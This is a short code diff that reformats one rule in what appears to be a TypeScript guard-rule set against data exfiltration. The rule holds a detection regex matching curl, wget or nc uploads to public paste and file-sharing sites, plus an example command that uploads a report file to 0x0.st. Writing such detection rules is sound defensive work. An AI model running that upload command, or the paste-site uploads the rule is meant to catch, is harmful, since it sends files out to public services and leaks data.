@@ -78,7 +78,8 @@ export const exfiltration: readonly GuardRule[] = rulesOf("exfiltration", [
   {
     id: "paste-site-upload",
     severity: "medium",
-    pattern: /\b(?:curl|wget|nc)\b.{0,200}\b(?:transfer\.sh|0x0\.st|termbin\.com|file\.io|ix\.io|pastebin\.com|paste\.rs)\b/i,
+    pattern:
+      /\b(?:curl|wget|nc)\b.{0,200}\b(?:transfer\.sh|0x0\.st|termbin\.com|file\.io|ix\.io|pastebin\.com|paste\.rs)\b/i,
     says: "uploads to a public paste or file service",
     example: "curl -F file=@report.txt https://0x0.st",
   },
